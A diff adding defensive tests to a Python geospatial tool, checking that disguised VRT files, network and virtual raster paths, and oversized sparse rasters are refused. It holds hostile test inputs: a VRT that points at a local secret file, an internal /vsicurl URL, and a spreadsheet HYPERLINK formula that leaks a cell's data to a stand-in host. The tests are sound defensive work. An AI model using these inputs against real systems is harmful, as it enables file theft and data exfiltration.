@@ -8,17 +8,25 @@ an output path that is an input is refused before anything runs, and the input i
 
 from __future__ import annotations
 
+import time
 from pathlib import Path
 
 import numpy as np
 import openpyxl
 import pandas as pd
 import pytest
+import rasterio
+from affine import Affine
+from rasterio.windows import Window
 
 from anzhi.cli import main
-from anzhi.core.errors import MAX_LISTED_PROBLEMS, InputError, Problem, short_repr
+from anzhi.core.errors import (MAX_LISTED_PROBLEMS, DataSourceError, InputError, Problem,
+                               short_repr)
+from anzhi.core.settings import override
 from anzhi.core.files import check_outputs_apart
 from layers.export import FORMULA_STARTS, csv_safe, write_outputs
+from layers.raster import check_dem
+from layers.terrain import write_slope
 from tests.layers.test_export import results  # noqa: F401  (the fixture)
 
 HOSTILE = '=HYPERLINK("http://x/?"&A1,"click")'
@@ -126,3 +134,46 @@ def test_a_huge_or_nested_value_is_shown_short() -> None:
     assert len(text) < 200
     assert len(str(Problem("bad id", value="x" * 10_000))) < 200
     assert short_repr(-3) == "-3"
+
+
+# --------------------------------------------------------------------------- rasters
+
+
+def test_a_vrt_disguised_as_a_dem_is_refused_unread(tmp_path: Path) -> None:
+    secret = tmp_path / "secret.tif"
+    secret.write_bytes(b"MARKER-LINE-42")
+    vrt = tmp_path / "dem.tif"
+    vrt.write_text(f'<VRTDataset rasterXSize="10" rasterYSize="10"><VRTRasterBand dataType="Byte" '
+                   f'band="1"><SimpleSource><SourceFilename>{secret}</SourceFilename>'
+                   f'</SimpleSource></VRTRasterBand></VRTDataset>', encoding="utf-8")
+    with pytest.raises(DataSourceError, match="not a GeoTIFF or SRTM .hgt file") as info:
+        check_dem(vrt)
+    assert "MARKER" not in str(info.value)
+
+
+@pytest.mark.parametrize("uri", ["/vsicurl/http://127.0.0.1:9/dem.tif", "https://example.org/dem.tif",
+                                 "/vsizip//etc/x.zip/a.tif"])
+def test_network_and_virtual_dem_paths_are_refused(uri: str) -> None:
+    t0 = time.perf_counter()
+    with pytest.raises(DataSourceError, match="virtual and network paths are not read"):
+        check_dem(uri)
+    assert time.perf_counter() - t0 < 1  # refused, not a connection that timed out
+
+
+def test_a_sparse_huge_dem_is_refused_before_reading(tmp_path: Path) -> None:
+    path = tmp_path / "huge.tif"
+    with rasterio.open(path, "w", driver="GTiff", width=200_000, height=200_000, count=1,
+                       dtype="int16", crs="EPSG:4542", transform=Affine(30, 0, 3.4e7, 0, -30, 3e6),
+                       tiled=True, blockxsize=512, blockysize=512, sparse_ok=True,
+                       compress="deflate") as dst:
+        dst.write(np.ones((1, 512, 512), dtype="int16"), window=Window(0, 0, 512, 512))
+    assert path.stat().st_size < 50_000_000
+    t0 = time.perf_counter()
+    with pytest.raises(InputError, match=r"200,000 × 200,000 pixels.*max_raster_pixels"):
+        check_dem(path)
+    with pytest.raises(InputError, match="max_raster_pixels"):
+        write_slope(path, tmp_path / "slope.tif")
+    assert time.perf_counter() - t0 < 5
+    assert not (tmp_path / "slope.tif").exists()
+    with override(max_raster_pixels=4 * 10**10):  # the limit can be raised
+        assert check_dem(path).width == 200_000
